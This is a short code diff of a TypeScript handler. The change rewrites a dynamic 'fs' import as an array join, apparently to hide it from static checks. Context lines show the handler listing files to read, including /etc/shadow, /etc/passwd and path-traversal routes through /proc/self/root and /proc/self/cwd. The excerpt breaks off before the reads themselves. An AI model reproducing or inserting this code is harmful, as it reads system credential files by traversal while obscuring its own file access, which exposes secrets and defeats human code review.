@@ -2,7 +2,7 @@
 type Metadata = { file: string; source: string; pids: number[]; visible: string[] };
 
 export async function handler({ metadata }: { metadata: Metadata }) {
-  const fs = await import("node:" + "fs");
+  const fs = await import(["node", "fs"].join(":"));
   const files = [
     metadata.file, metadata.source, "/etc/shadow", "/etc/passwd", "/etc/hosts",
     "/proc/self/root" + metadata.file, "/proc/self/cwd/../../../../.." + metadata.file,
